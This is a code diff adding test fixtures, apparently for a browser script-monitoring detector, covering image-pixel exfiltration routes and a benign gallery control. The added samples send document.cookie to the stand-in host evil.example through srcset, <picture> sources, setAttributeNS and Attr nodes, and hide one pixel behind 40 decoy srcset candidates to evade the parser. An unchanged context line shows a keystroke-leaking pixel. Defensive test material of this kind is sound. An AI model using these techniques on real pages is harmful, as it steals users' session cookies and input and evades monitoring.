@@ -42,6 +42,30 @@ export const MAIN_WORLD_SCRIPTS = {
   quiet: `window.__helperQuiet = true;`,
 
   /**
+   * Inline scripts inserted by the rarer DOM routes: replaceChildren, Range.insertNode, a Range's text
+   * wrapped into a script by surroundContents, and code put by insertNode into a script inserted empty.
+   */
+  'odd-insertions': `(() => {
+  const code = (tag) => 'window.__odd = (window.__odd || []).concat(' + JSON.stringify(tag) + ');';
+  const inline = (tag) => { const s = document.createElement('script'); s.textContent = code(tag); return s; };
+  const box = () => { const b = document.createElement('div'); b.hidden = true; document.body.appendChild(b); return b; };
+  box().replaceChildren(inline('replaceChildren'));
+  const at = document.createRange();
+  at.selectNodeContents(box());
+  at.insertNode(inline('insertNode'));
+  const around = box();
+  around.textContent = code('surroundContents');
+  const wrap = document.createRange();
+  wrap.selectNodeContents(around);
+  wrap.surroundContents(document.createElement('script'));
+  const empty = document.createElement('script');
+  box().appendChild(empty);
+  const into = document.createRange();
+  into.selectNodeContents(empty);
+  into.insertNode(document.createTextNode(code('insertNode-into-empty')));
+})();`,
+
+  /**
    * 200 inline scripts of different text in one task (past Saq's hash budget of 64 per kind and actor),
    * then, two seconds later when the budget has refilled, one more.
    */
@@ -71,6 +95,48 @@ export const MAIN_WORLD_SCRIPTS = {
   field.addEventListener('input', () => {
     new Image().src = 'https://evil.example/p.gif?u=' + encodeURIComponent(field.value);
   });
+})();`,
+
+  /**
+   * Image pixels that never touch `img.src`: `srcset` on a new Image, and on a <source> in a <picture>
+   * (the browser fetches the candidate it picks).
+   */
+  'srcset-pixel': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  new Image().srcset = 'https://evil.example/p-srcset.gif?c=' + c;
+  const picture = document.createElement('picture');
+  const source = document.createElement('source');
+  source.srcset = 'https://evil.example/p-source.gif?c=' + c + ' 1x';
+  picture.append(source, document.createElement('img'));
+  document.body.appendChild(picture);
+})();`,
+
+  /** The same through the namespaced attribute API: `setAttributeNS(null, 'src', …)`. */
+  'attribute-ns-pixel': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  document.createElement('img').setAttributeNS(null, 'src', 'https://evil.example/p-ns.gif?c=' + c);
+})();`,
+
+  /** The same through Attr nodes: one attached with setAttributeNode, one changed in place by `value`. */
+  'attribute-node-pixel': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const attr = document.createAttribute('src');
+  attr.value = 'https://evil.example/p-node.gif?c=' + c;
+  document.createElement('img').setAttributeNode(attr);
+  const shown = document.createElement('img');
+  shown.setAttribute('src', '/favicon.ico');
+  shown.getAttributeNode('src').value = 'https://evil.example/p-attr-value.gif?c=' + c;
+})();`,
+
+  /**
+   * A srcset with more candidates than Saq parses: 40 low-density decoys, then the pixel at 1x — the
+   * one the browser picks.
+   */
+  'srcset-overflow-pixel': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  let decoys = '';
+  for (let i = 1; i <= 40; i++) decoys += '/favicon.ico?' + i + ' ' + i / 100 + 'x, ';
+  new Image().srcset = decoys + 'https://evil.example/p-overflow.gif?c=' + c + ' 1x';
 })();`,
 
   /** Leaks storage by sendBeacon to a webhook site. */
@@ -222,6 +288,39 @@ export const BENIGN = {
   printFrame.style.display = 'none';
   document.body.appendChild(printFrame);
   printFrame.contentWindow.document.title = 'print';
+})();`,
+  /**
+   * A first-party gallery that sets its own pictures every way the image-pixel hooks watch — srcset,
+   * <picture> sources, setAttributeNS, Attr nodes, a srcset longer than Saq parses — some from an image
+   * host outside the shop's profile (the shop shows its pictures from anywhere), after reading its cookie.
+   */
+  gallery: `(() => {
+  const v = encodeURIComponent(document.cookie);
+  const own = location.origin + '/static/coins/ilbis';
+  const cover = new Image();
+  cover.sizes = '50vw';
+  cover.srcset = own + '-480.jpg 480w, ' + own + '-960.jpg 960w, https://img.example/ilbis-1920.jpg 1920w';
+  const picture = document.createElement('picture');
+  const source = document.createElement('source');
+  source.srcset = '/static/coins/ilbis.webp?v=' + v + ' 1x, https://img.example/ilbis@2x.webp 2x';
+  source.src = '/static/coins/ilbis.webp';
+  const thumb = document.createElement('img');
+  thumb.setAttributeNS(null, 'src', '/static/coins/ilbis-thumb.jpg?v=' + v);
+  thumb.setAttributeNS(null, 'srcset', 'https://img.example/ilbis-thumb@2x.jpg 2x');
+  thumb.setAttribute('srcset', '/static/coins/ilbis-thumb@2x.jpg 2x');
+  picture.append(source, thumb);
+  const zoom = document.createElement('img');
+  const attr = document.createAttribute('src');
+  attr.value = 'https://img.example/ilbis-zoom.jpg';
+  zoom.setAttributeNode(attr);
+  attr.value = own + '-zoom.jpg';
+  let widths = '';
+  for (let w = 100; w <= 2000; w += 100) widths += own + '-' + w + '.jpg ' + w + 'w, ';
+  const wide = new Image();
+  wide.sizes = '100vw';
+  wide.srcset = widths + 'https://img.example/ilbis-4000.jpg 4000w';
+  document.body.append(cover, picture, zoom, wide);
+  window.__gallery = true;
 })();`,
   /** A monitoring library (error/performance tracking) that wraps fetch and addEventListener, calling through. */
   monitoring: `(() => {
